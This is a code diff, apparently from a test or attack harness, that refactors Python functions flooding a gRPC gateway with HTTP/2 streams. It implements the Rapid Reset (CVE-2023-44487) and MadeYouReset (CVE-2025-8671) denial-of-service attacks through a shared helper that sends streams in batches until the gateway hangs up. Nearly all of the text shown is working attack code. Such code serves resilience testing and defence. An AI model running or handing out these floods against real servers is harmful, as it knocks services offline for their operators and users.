@@ -19,32 +19,28 @@ def _batches(count: int) -> list[range]:
     return [range(start, min(count, start + _BATCH)) for start in range(0, count, _BATCH)]
 
 
-def rapid_reset(address: str, count: int) -> None:
-    """Streams that are opened and cancelled at once (CVE-2023-44487)."""
+def _open_each(address: str, count: int, kind: int, payload: bytes) -> None:
+    """Open streams, and send a frame of this kind on each at once, until the gateway hangs up."""
     with Attacker(address) as attacker:
         block = wire.grpc_headers(_PATH, address)
         for batch in _batches(count):
             data = b"".join(
                 frame(wire.HEADERS, block, flags=wire.END_HEADERS, stream=2 * n + 1)
-                + frame(wire.RST_STREAM, wire.CANCEL, stream=2 * n + 1)
+                + frame(kind, payload, stream=2 * n + 1)
                 for n in batch
             )
             if attacker.send(data) < len(data):
                 return
+
+
+def rapid_reset(address: str, count: int) -> None:
+    """Streams that are opened and cancelled at once (CVE-2023-44487)."""
+    _open_each(address, count, wire.RST_STREAM, wire.CANCEL)
 
 
 def made_you_reset(address: str, count: int) -> None:
     """Streams that the gateway itself must reset, for a window of 0 (CVE-2025-8671)."""
-    with Attacker(address) as attacker:
-        block = wire.grpc_headers(_PATH, address)
-        for batch in _batches(count):
-            data = b"".join(
-                frame(wire.HEADERS, block, flags=wire.END_HEADERS, stream=2 * n + 1)
-                + frame(wire.WINDOW_UPDATE, struct.pack(">I", 0), stream=2 * n + 1)
-                for n in batch
-            )
-            if attacker.send(data) < len(data):
-                return
+    _open_each(address, count, wire.WINDOW_UPDATE, struct.pack(">I", 0))
 
 
 def settings_flood(address: str, count: int) -> None:
